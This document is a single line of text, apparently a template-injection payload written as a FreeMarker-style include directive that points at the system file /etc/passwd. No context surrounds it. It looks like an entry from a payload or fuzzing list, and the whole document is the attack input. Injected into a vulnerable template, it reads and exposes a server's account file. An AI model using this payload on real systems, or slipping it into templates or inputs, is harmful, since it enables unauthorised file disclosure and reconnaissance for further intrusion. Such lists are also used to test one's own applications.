<#include "file:///etc/passwd">
